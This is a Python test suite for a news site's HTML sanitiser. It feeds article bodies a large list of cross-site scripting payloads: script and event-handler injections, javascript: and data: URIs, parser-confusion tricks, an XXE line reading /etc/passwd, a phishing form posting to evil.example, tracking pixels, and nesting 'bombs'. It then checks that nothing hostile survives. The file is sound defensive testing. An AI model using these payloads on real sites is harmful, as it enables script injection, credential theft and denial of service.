"""What a stolen account or a careless paste sends in an article, and what readers get."""

import base64
import re
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup

from news.models import Article, Photo
from news.sanitise import sanitise
from tests.factories import make_photo, picture, post_article, write_article

pytestmark = pytest.mark.django_db

TAGS = {
    *("p", "h2", "h3", "h4", "ul", "ol", "li", "blockquote", "hr", "br", "div", "span"),
    *("strong", "em", "u", "s", "sub", "sup", "a"),
    *("table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td"),
    *("figure", "figcaption", "picture", "source", "img"),
}
ATTRIBUTES = {
    *("class", "href", "title", "rel", "colspan", "rowspan", "scope", "start"),
    *("src", "srcset", "sizes", "type", "media", "alt", "width", "height", "loading"),
    *("role", "aria-label", "tabindex"),  # of the frame in which a wide table scrolls
}
CLASSES = {
    *("text-center", "text-right", "text-justify", "align-left", "align-center", "align-right"),
    *("image", "figure", "figure__caption", "figure__credit", "table-scroll", "agency-prefix"),
}
GIF = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"

# Each stands between two sentences of an honest report.
SNIPPETS = {
    "scripts": [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<script\x0c>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/src=data:,alert(1)></script>",
        '<script type="module">import("//evil.example")</script>',
        "<<script>alert(1)//<</script>",
        "<script><!--<script></script>--></script>",
        "<img src='a' /><script>alert(1)</script x>",
    ],
    "handlers": [
        "<p onclick=alert(1)>x</p>",
        '<img src=x onerror="alert(1)">',
        "<img/src=x/onerror=alert(1)>",
        '<img src="x` `<script>alert(1)</script>"` `>',
        "<p\nonmouseover\n=\nalert(1)>x</p>",
        "<p ONFOCUS=alert(1) tabindex=0 autofocus>x</p>",
        "<p/onpointerrawupdate='alert(1)'>x</p>",
        '<a href="/" onclick="&#97;lert(1)">x</a>',
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)></audio>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<table onscroll=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>",
        '<p title="a"onclick="alert(1)">x</p>',
        "<p 'onclick=alert(1)'onclick=alert(1)>x</p>",
    ],
    "schemes": [
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href=" \x01javascript:alert(1)">x</a>',
        '<a href="java\tscr\nipt:alert(1)">x</a>',
        '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>',
        '<a href="&#0000106avascript:alert(1)">x</a>',
        '<a href="javascript&NewLine;:alert(1)">x</a>',
        '<a href="java&Tab;script:alert(1)">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<a href="blob:https://evil.example/1">x</a>',
        '<a href="file:///etc/passwd">x</a>',
        '<a href="view-source:javascript:alert(1)">x</a>',
        '<a href="\u0085javascript:alert(1)">x</a>',
        '<a href="ｊavascript:alert(1)" xlink:href="javascript:alert(1)">x</a>',
        '<a href="/" target="_blank" rel="opener" ping="//evil.example">x</a>',
        '<blockquote cite="javascript:alert(1)">x</blockquote>',
        '<table background="javascript:alert(1)"><tr><td background="//evil.example">x</table>',
        '<img src="javascript:alert(1)">',
        "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
        '<img src="data:text/html,<script>alert(1)</script>">',
        '<img longdesc="javascript:alert(1)" src="x">',
    ],
    "other grammars": [
        "<svg onload=alert(1)></svg>",
        "<svg><script>alert&#40;1)</script></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        '<svg><foreignObject><iframe srcdoc="<script>a()</script>"></iframe></foreignObject></svg>',
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></a></style></svg>",
        "<math><mtext><table><mglyph><style><img src onerror=a()></style></mglyph></table></math>",
        '<math href="javascript:alert(1)">x</math>',
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version='1.0'?><?php system('id') ?>",
        "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
        "<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>",
    ],
    "frames, forms, heads": [
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        "<iframe src=javascript:alert(1)></iframe>",
        '<iframe src="https://www.youtube.com.evil.example/embed/1"></iframe>',
        "<frameset><frame src=javascript:alert(1)></frameset>",
        '<object data="javascript:alert(1)"><param name="a" value="b"></object>',
        '<embed src="//evil.example/x.swf" allowscriptaccess="always">',
        "<applet code=x archive=//evil.example></applet>",
        '<base href="//evil.example/">',
        '<meta http-equiv="refresh" content="0;url=//evil.example">',
        '<link rel="stylesheet" href="//evil.example/x.css">',
        "<link rel=import href=data:text/html,x>",
        '<form action="//evil.example"><input name="mat-khau"><button>Đăng nhập</button></form>',
        '<input type="image" src="//evil.example" formaction="javascript:alert(1)">',
        "<isindex action=javascript:alert(1) type=submit>",
        "<select><option><script>alert(1)</script></option></select>",
    ],
    "parsers that disagree": [
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<template><script>alert(1)</script></template>",
        '<template shadowrootmode="open"><img src=x onerror=alert(1)></template>',
        '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
        '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "<noembed><img src=x onerror=alert(1)></noembed>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<!-- --!><img src=x onerror=alert(1)>-->",
        "<!-- <p title='--><img src=x onerror=alert(1)>'> -->",
        '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
        "<a title='\"><script>alert(1)</script>' href='/'>x</a>",
        '<a title="--></style></script><img src=x onerror=alert(1)>" href="/">x</a>',
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<p>+ADw-script+AD4-alert(1)</p>",
        "<a href='/'><table><a href='javascript:alert(1)'>x</a></table></a>",
    ],
    "looks": [
        '<p style="background:url(javascript:alert(1))">x</p>',
        '<p style="width:expression(alert(1))">x</p>',
        '<div style="position:fixed;inset:0;z-index:9999">x</div>',
        '<p style="display:none">nổ hũ <a href="https://casino.example">tài xỉu</a></p>',
        "<style>body{display:none}@import'//evil.example'</style>",
        '<p class="site-header visually-hidden skip-link" id="noi-dung">x</p>',
        '<p class="text-center&#10;site-header">x</p>',
        '<figure class="figure--wide site-footer image">x</figure>',
        '<a class="button" name="noi-dung" id="noi-dung" href="/">x</a>',
        '<p id="noi-dung" slot="x" is="x-y" contenteditable data-photo="1" accesskey="x">x</p>',
        "<table><tr><td colspan=1000000000 rowspan=-1 class='text-center fixed'>x</table>",
        "<font color=white size=1>x</font><center>y</center><blink>z</blink>",
        "<p title='tài xỉu' lang='zh' dir='rtl'>x</p><table title='x' lang='x'><tr><td>x</table>",
    ],
    "pictures that tell who reads": [
        '<img src="https://theo-doi.example/1.gif" width="1" height="1">',
        "<img src=//theo-doi.example/1.gif>",
        '<img src="/\\theo-doi.example/1.gif">',
        '<img src="http://portal.example.evil.example/media/photos/2026/01/aaaaaaaaaaaaaaaaaaaa.jpg">',
        '<img src="http://portal.example@evil.example/media/photos/2026/01/aaaaaaaaaaaaaaaaaaaa.jpg">',
        '<img src="/media/photos/pasted/0">',  # where the server itself puts pasted pictures
        '<img src="http://portal.example/media/photos/pasted/0">',
        '<img src="/media/photos/pasted/x">',
        '<img src="/tai-khoan/thoat/">',
        '<img srcset="//theo-doi.example/1.gif 1x" src>',
        '<picture><source srcset="//theo-doi.example/1.gif"><img></picture>',
        '<figure><img src="//theo-doi.example/1.gif"><img src="//theo-doi.example/2.gif"></figure>',
        '<figure data-photo="1"></figure>',
        '<a title=\'<figure data-photo="1"></figure>\' href="/">x</a>',
        '<video poster="//theo-doi.example/1.gif"></video>',
    ],
}
EVERY_SNIPPET = [snippet for snippets in SNIPPETS.values() for snippet in snippets]


def is_harmless(link):
    # As a browser reads an address (URL Standard, 4.4): these characters do not count.
    address = urlsplit(re.sub(r"^[\x00-\x20]+|[\t\r\n]", "", link))
    return address.scheme.lower() in ("", "http", "https", "mailto", "tel")


def pictures_of(tag):
    for address in [tag.get("src"), *tag.get("srcset", "").split(",")]:
        if address and address.strip():
            yield address.strip().split(" ")[0]


def faults(soup):
    """Everything in a piece of a public page that an article has no business to bring there."""
    for tag in soup.find_all(True):
        if tag.name not in TAGS:
            yield f"<{tag.name}>"
        yield from (f"{tag.name} {name}" for name in tag.attrs.keys() - ATTRIBUTES)
        yield from (f"class {name}" for name in set(tag.get("class", [])) - CLASSES)
        if tag.name != "a" and tag.get("title"):
            yield f"{tag.name} title"
        if not is_harmless(tag.get("href", "")):
            yield tag["href"]
        if tag.get("href") and "noopener" not in tag.get("rel", []):
            yield f"{tag} without rel"
        yield from (p for p in pictures_of(tag) if not re.match(r"/(?!/)[\w./-]+$", p))


def body_of(client, article):
    page = client.get(article.get_absolute_url())
    assert page.status_code == 200
    return BeautifulSoup(page.content, "html.parser").select_one(".article__body")


def between(snippet):
    return f"<p>Câu trước.</p>{snippet}<p>Câu sau.</p>"


def warning_after(client, **fields):
    """What the page after saving tells the clerk."""
    answer = client.get(post_article(client, button="_continue", **fields).url)
    messages = BeautifulSoup(answer.content, "html.parser").select(".messagelist .warning")
    return " ".join(message.get_text(" ", strip=True) for message in messages)


@pytest.mark.parametrize("snippets", SNIPPETS.values(), ids=SNIPPETS.keys())
def test_nothing_hostile_reaches_the_reader_and_no_word_is_lost(clerk, client, snippets):
    make_photo(size=(90, 60))  # number 1, which a body must not be able to name

    for snippet in snippets:
        body = body_of(client, write_article(clerk, body=between(snippet)))

        text = body.get_text(" ")
        assert list(faults(body)) == [], snippet
        assert "Câu trước." in text, snippet
        assert "Câu sau." in text, snippet
        assert not body.select("[data-photo]"), snippet


@pytest.mark.parametrize(
    "snippet",
    [  # never closed, so that what follows belongs to them
        "<script>alert(1)",
        "<style>p{display:none}",
        "<!-- <p>",
        "<p title='",
        '<a href="javascript:alert(1)//',
        "<svg><![CDATA[",
        "<textarea><script>alert(1)",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=a()></style>",
        "<plaintext><script>alert(1)",
        "<iframe srcdoc='<script>alert(1)",
        "<table><tr><td><script>alert(1)",
        "</p></div></main></body></html><script>alert(1)",
    ],
)
def test_a_snippet_without_an_end_harms_nothing_before_it(clerk, client, snippet):
    article = write_article(clerk, body=between(snippet))

    page = BeautifulSoup(client.get(article.get_absolute_url()).content, "html.parser")
    body = page.select_one(".article__body")
    assert list(faults(body)) == []
    assert "Câu trước." in body.get_text()
    assert page.footer  # nothing of the page was swallowed


def test_cleaning_twice_is_cleaning_once():
    once = [sanitise(between(snippet))[0] for snippet in EVERY_SNIPPET]

    assert [sanitise(html)[0] for html in once] == once


def test_a_stolen_account_finds_nothing_in_the_editor_either(clerk):
    article = write_article(clerk, body=between("".join(EVERY_SNIPPET)))

    page = clerk.get(f"/quan-tri/news/article/{article.pk}/change/")
    shown = BeautifulSoup(page.content, "html.parser").find("textarea", {"name": "body"}).text

    assert list(faults(BeautifulSoup(shown, "html.parser"))) == []


def test_saving_what_the_editor_shows_changes_nothing(clerk):
    article = write_article(clerk, body=between("".join(EVERY_SNIPPET)))

    page = clerk.get(f"/quan-tri/news/article/{article.pk}/change/")
    shown = BeautifulSoup(page.content, "html.parser").find("textarea", {"name": "body"}).text

    assert write_article(clerk, article, body=shown).body == article.body


@pytest.mark.parametrize(
    "field", ["title", "lead", "agency_prefix", "source_name", "caption", "credit", "alt", "name"]
)
def test_a_script_in_a_plain_field_is_printed_as_text(clerk, client, field):
    evil = '"><script>alert(1)</script>'
    photo = {"image": picture((90, 60))} | (
        {field: evil} if field in ("caption", "credit", "alt") else {}
    )
    contributor = {"name": evil if field == "name" else "Ngọc Ánh", "role": "author"}
    fields = {} if field in (*photo, *contributor) else {field: evil}

    article = write_article(clerk, photos=[photo], contributors=[contributor], **fields)

    page = BeautifulSoup(client.get(article.get_absolute_url()).content, "html.parser")
    scripts = page.find_all("script", type=lambda kind: kind != "application/ld+json")
    assert not [script for script in scripts if "alert" in script.text]
    assert "alert(1)" in str(page.main)


# ---------- What honest work keeps ----------


@pytest.mark.parametrize(
    "html",
    [
        "<p>Ban Thường vụ &amp; các ban; 5 &lt; 7, “giữ” — 14.531,44 tỷ đồng</p>",
        "<h2>I. Kết quả</h2><h3>1. Xây dựng Đảng</h3><h4>a) Chi bộ</h4>",
        "<p><strong>Đậm</strong> <em>nghiêng</em> <u>gạch</u> H<sub>2</sub>O m<sup>2</sup></p>",
        "<ol><li>Một là</li><li>Hai là<ul><li>nhỏ</li></ul></li></ol>",
        '<ol start="4"><li>Bốn là</li></ol>',
        '<ol type="a"><li>Mục a</li></ol>',
        "<blockquote><p>“Không có gì quý hơn độc lập, tự do”</p></blockquote>",
        '<p class="text-center">***</p><p class="text-right">Ngọc Ánh</p>',
        '<table><thead><tr><th scope="col">Đơn vị</th></tr></thead>'
        '<tbody><tr><td colspan="2" rowspan="3">12</td></tr></tbody></table>',
        '<p><a href="https://dangcongsan.vn/" rel="noopener" title="Báo">Báo</a></p>',
        '<p><a href="mailto:vp@example.vn" rel="noopener">thư</a></p>',
        '<p><a href="tel:02693824103" rel="noopener">gọi</a></p>',
        "<p>Dòng một<br>dòng hai</p><hr>",
        "<p>🇻🇳 👩🏽\u200d💼 dấu\u00a0cách cứng</p>",
    ],
)
def test_what_a_report_needs_is_kept_as_it_was_typed(clerk, html):
    article = write_article(clerk, body=html)

    kept = article.body.replace("<br/>", "<br>").replace("<hr/>", "<hr>")
    assert kept == html


def test_word_debris_goes_without_a_word(clerk):
    html = (
        '<p class="MsoNormal" style="mso-fareast-language:VI"><span lang="VI">Chi bộ<o:p></o:p>'
        '</span></p><p><st1:place w:st="on"><font face=".VnTime">Pleiku</font></st1:place></p>'
        "<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml>"
        "<![endif]-->"
    )

    assert warning_after(clerk, body=html) == ""
    assert Article.objects.get().body == "<p>Chi bộ</p><p>Pleiku</p>"


@pytest.mark.parametrize(
    "html",
    [
        "<center>Hội nghị</center><address>Pleiku</address>",
        "<dl><dt>Hội nghị</dt><dd>Pleiku</dd></dl>",
        "<article><section>Hội nghị</section><pre>Pleiku</pre></article>",
    ],
)
def test_lines_whose_tags_go_stay_words_of_their_own(clerk, html):
    assert write_article(clerk, body=html).body.split() == ["Hội", "nghị", "Pleiku"]


# ---------- What the clerk is told ----------


@pytest.mark.parametrize(
    ("html", "told"),
    [
        ("<script>a</script><SCRIPT>b</SCRIPT>", "2 mã lệnh"),
        ('<iframe src="https://www.youtube.com/embed/1"></iframe>', "1 khung nhúng"),
        ("<video></video>", "1 video"),
        ("<svg></svg>", "hình vẽ SVG"),
        ("<form></form><input>", "2 biểu mẫu"),
        ("<style></style>", "mã trình bày"),
        ('<p><img src="https://theo-doi.example/1.gif"></p>', "1 ảnh từ trang khác"),
        (f"<img src=data:image/gif;base64,{GIF}>", "1 ảnh"),  # unquoted, as no editor writes
        ("<la-lung>x</la-lung>", "la-lung"),
    ],
)
def test_the_clerk_is_told_what_was_taken_out(clerk, html, told):
    assert told in warning_after(clerk, body=between(html))


def test_the_clerk_is_told_nothing_when_nothing_was_taken_out(clerk):
    assert warning_after(clerk, body=between("<p><b>Đậm</b> <span>thường</span></p>")) == ""


def test_what_is_told_is_text_and_not_markup(clerk):
    answer = post_article(clerk, button="_continue", body='<x"onx=alert(1)><img/src=x>')

    page = BeautifulSoup(clerk.get(answer.url).content, "html.parser")
    assert {tag.name for tag in page.select(".messagelist *")} <= {"li", "a", "svg", "use"}


def test_a_thousand_strange_tags_make_a_short_message(clerk):
    html = "".join(f"<la-{n}></la-{n}>" for n in range(1000))

    assert len(warning_after(clerk, body=between(html))) < 1000


def test_the_caption_of_a_foreign_picture_stays_as_text(clerk, client):
    html = (
        '<figure class="image"><img src="https://khac.example/1.jpg">'
        "<figcaption>Lễ đón tại sân bay</figcaption></figure>"
    )

    article = write_article(clerk, body=html)

    assert "Lễ đón tại sân bay" in body_of(client, article).get_text()
    assert not Photo.objects.exists()


def test_the_words_around_a_foreign_picture_stay(clerk, client):
    html = '<figure><p>Lời dẫn.</p><img src="https://khac.example/1.jpg"> Lời kết.</figure>'

    article = write_article(clerk, body=html)

    assert body_of(client, article).get_text(" ", strip=True) == "Lời dẫn. Lời kết."


@pytest.mark.parametrize("end", ["", "a", "a.jpg", "../01/x.jpg"])
def test_a_piece_of_an_address_takes_nobodys_picture(clerk, end):
    photo = make_photo(size=(90, 60))
    folder = photo.image.url.rpartition("/")[0]
    first_digit = photo.image.url.removeprefix(f"{folder}/")[:1]

    write_article(clerk, body=f'<p>Lời.</p><img src="{folder}/{end.replace("a", first_digit)}">')

    photo.refresh_from_db()
    assert photo.article is None


def test_a_pasted_drawing_that_could_hold_a_script_is_refused_by_name(clerk):
    svg = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()

    answer = post_article(clerk, body=between(f'<img src="data:image/svg+xml;base64,{svg}">'))

    assert answer.status_code == 422
    assert "Ảnh dán thứ 1" in answer.text
    assert "Câu trước." in answer.text


# ---------- Text that is meant to keep the server busy ----------


@pytest.mark.parametrize(
    ("bomb", "about"),
    [
        ("<div>" * 40_000, "lồng nhau"),
        ("<font><p>" * 8_000, "lồng nhau"),
        ("<blockquote>" * 101, "lồng nhau"),
        ('<div title="</div>">' * 20_000, "lồng nhau"),  # the end stands in an attribute
        ("<div title='></div>'>" * 20_000, "lồng nhau"),
        ("<div><!--</div>-->" * 20_000, "lồng nhau"),  # … in a comment
        ("<div><style></div></style>" * 10_000, "lồng nhau"),  # … in what is not HTML
        ("<b><div></b>" * 20_000, "lồng nhau"),  # … of something that stands further out
        ("<p><div></p>" * 20_000, "lồng nhau"),
        ("Nội dung dài. " * 72_000, "một triệu"),
        ("<p>x</p>" * 130_000, "một triệu"),
        ("5 < 7 " * 120_000, "một triệu"),  # kept, each "<" is four characters
        ("<figure></figure>" * 20_000, "quá nhiều đoạn"),
        ("</p>" * 30_000, "quá nhiều đoạn"),
        ("a&" * 30_000, "quá nhiều đoạn"),
        # What is left open is opened again in each of the paragraphs that follow.
        (f"<p>{'<b class=x>' * 3}{'<i class=y>' * 3}</p>{'<p>x' * 9_000}", "quá nhiều đoạn"),
    ],
)
def test_a_bomb_is_refused_with_a_reason_and_its_text_stays(clerk, bomb, about):
    answer = post_article(clerk, body=f"<p>Câu đã gõ.</p>{bomb}")

    assert answer.status_code == 422
    assert about in answer.context["adminform"].form.errors["body"][0]
    assert "&lt;p&gt;Câu đã gõ.&lt;/p&gt;" in answer.text
    assert not Article.objects.exists()


@pytest.mark.parametrize("begun", ["<" + "z" * 300_000, '<a "//' * 15_000, "<a 'a/'\"" * 15_000])
def test_a_tag_that_is_begun_and_never_closed_is_read_once(clerk, begun):
    """Read from each of its letters anew, it would hold the server for hours."""
    answer = post_article(clerk, body=f"<p>Câu đã gõ.</p>{begun}")

    assert answer.status_code in (302, 422)
    assert answer.status_code == 422 or "Câu đã gõ." in Article.objects.get().body


@pytest.mark.parametrize(
    "html",
    [
        "<p>Đoạn.</p>" * 5_000,
        "<p>Đoạn không có thẻ đóng" * 1_000,
        "<ul>" + "<li>Mục" * 1_000 + "</ul>",
        "<table>" + "<tr><td>1</td><td>2</td></tr>" * 1_000 + "</table>",
        "<blockquote>" * 50 + "Lời" + "</blockquote>" * 50,
        "<p>a<br>b<br/>c<hr></p>" * 500,
        "<p>Năm 2025 &lt; 2030</p>" * 1_000,
    ],
)
def test_a_long_honest_text_is_not_taken_for_a_bomb(clerk, html):
    assert write_article(clerk, body=html).body


def test_signs_that_look_like_tags_are_kept_or_told(clerk):
    told = warning_after(clerk, body="<p>Câu trước.</p>" + "x<" * 100_000)

    body = Article.objects.get().body
    assert "Câu trước." in body
    assert told or body.count("&lt;") == 100_000


@pytest.mark.parametrize("html", ["<p>5 < 7 và 8 > 3</p>", "<p>a<1, b<2</p>", "<p>1<<2 <3</p>"])
def test_a_sign_that_opens_no_tag_is_a_sign(clerk, client, html):
    article = write_article(clerk, body=html)

    typed = html.removeprefix("<p>").removesuffix("</p>")
    assert body_of(client, article).get_text().strip() == typed
